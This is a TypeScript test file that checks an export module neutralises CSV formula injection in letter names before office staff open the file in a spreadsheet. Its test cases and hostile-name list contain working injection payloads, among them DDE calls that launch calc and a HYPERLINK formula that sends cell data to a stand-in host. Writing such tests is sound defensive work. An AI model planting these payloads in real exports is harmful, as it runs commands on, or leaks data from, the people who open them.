import { execFileSync } from 'node:child_process';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, spreadsheetCell } from '../../../src/main/export/spreadsheet-cell';

const FORMULA_SIGN = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

/**
 * Python's csv module as an independent reader: `quotes` honours quoting as
 * spreadsheets do (quotes it meets mid-cell, after a split at a separator the
 * file did not use, still open and close text); `none` is an import told to
 * ignore quotes.
 */
function readCsv(text: string, delimiter: string, quotes: 'quotes' | 'none'): string[][] {
  const reader = [
    'import csv, io, json, sys',
    "text = sys.stdin.buffer.read().decode('utf-8')",
    'quoting = csv.QUOTE_NONE if sys.argv[2] == "none" else csv.QUOTE_MINIMAL',
    "rows = csv.reader(io.StringIO(text, newline=''), delimiter=sys.argv[1], quoting=quoting)",
    'print(json.dumps(list(rows)))',
  ].join('\n');
  return JSON.parse(execFileSync('python3', ['-c', reader, delimiter, quotes], { input: text, encoding: 'utf8' })) as string[][];
}

/** An export as the admin's CSV writes it: text cells through `spreadsheetCell`, numbers as numbers. */
function exportCsv(letterNames: string[]): string {
  const rows = letterNames.map((letterName, i) => ({ reference: `ADM01-261129-${i}`, letterName, attempts: i }));
  return stringify(rows, { header: true, columns: ['reference', 'letterName', 'attempts'], cast: { string: spreadsheetCell, number: String } });
}

describe('spreadsheet cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\tA', "'\tA"],
    ['\rA', "'\rA"],
    [' \n =A1', "' \n' =A1"],
    ['\uFF1DA1', "'\uFF1DA1"],
    ['Surat Keterangan Usaha', 'Surat Keterangan Usaha'],
    ['Surat = keterangan', 'Surat = keterangan'],
    ['e-mail', 'e-mail'],
    ['  Surat', '  Surat'],
    ["'=1+1", "'=1+1"],
    ['', ''],
    // A separator inside the text, where a spreadsheet in another locale (or told to ignore quotes) splits.
    ["Surat X;=cmd|' /C calc'!A0", "Surat X;'=cmd|' /C calc'!A0"],
    ['Surat X\t=1+2', "Surat X\t'=1+2"],
    ['Surat X, +SUM(1)', "Surat X,' +SUM(1)"],
    ['Surat X;"=1+2"', 'Surat X;\'"=1+2"'],
    ['a\r\n@SUM(A1)', "a\r\n'@SUM(A1)"],
    ['a\r\n\r\n=1', "a\r\n\r\n'=1"],
    ['Surat X\u2028=1', "Surat X\u2028'=1"],
    ['Surat X\f+1', "Surat X\f'+1"],
    ['\t=1+1', "'\t'=1+1"],
    ['Surat X;\uFF0B1', "Surat X;'\uFF0B1"],
    ['Surat X; Keterangan', 'Surat X; Keterangan'],
    ['Jl. Merdeka, RT 1', 'Jl. Merdeka, RT 1'],
  ])('neutralises text that would start a formula: %j -> %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it('quotes every text cell', () => {
    expect(spreadsheetCell('=1+1')).toEqual({ value: "'=1+1", quoted: true });
    expect(spreadsheetCell('Surat Keterangan Usaha')).toEqual({ value: 'Surat Keterangan Usaha', quoted: true });
  });

  // Letter names as a hostile village server could send them; the office opens the export in its spreadsheet.
  const HOSTILE_NAMES = [
    "Surat X;=cmd|' /C calc'!A0",
    "Surat X;@SUM(1+1)*cmd|' /C calc'!A0",
    'Surat X;=HYPERLINK("http://contoh.test/?d="&A2;"klik")',
    "Surat X; -2+3+cmd|' /C calc'!A0",
    'Surat X;"=1+2"',
    'Surat X;""+1',
    'Surat X\t=1+2',
    'Surat X\t \t@SUM(A1)',
    'Surat X,+SUM(1)',
    'Surat X\n=1+2',
    'Surat X\r\n@SUM(A1)',
    ';=1+2',
    '\t=1+2',
    '=HYPERLINK("http://contoh.test","klik")',
    ' =1+2',
    '\u3000=1+2',
    'Surat X;\uFF1D1+2',
    'Surat Keterangan Usaha',
  ];

  it.each([
    [',', 'quotes'],
    [';', 'quotes'],
    ['\t', 'quotes'],
    [',', 'none'],
    [';', 'none'],
    ['\t', 'none'],
  ] as const)('no cell starts a formula when the export is read split at %j (%s)', (delimiter, quotes) => {
    const cells = readCsv(exportCsv(HOSTILE_NAMES), delimiter, quotes).flat();
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((cell) => FORMULA_SIGN.test(cell.trimStart()))).toEqual([]);
  });

  it('reads back, split at commas as written, as each name neutralised, and numbers stay numbers', () => {
    const text = exportCsv(HOSTILE_NAMES);
    const [header, ...rows] = readCsv(text, ',', 'quotes');
    expect(header).toEqual(['reference', 'letterName', 'attempts']);
    expect(rows).toEqual(HOSTILE_NAMES.map((name, i) => [`ADM01-261129-${i}`, neutraliseFormula(name), String(i)]));
    expect(text.split('\n')[1]).toBe('"ADM01-261129-0","Surat X;\'=cmd|\' /C calc\'!A0",0');
  });
});
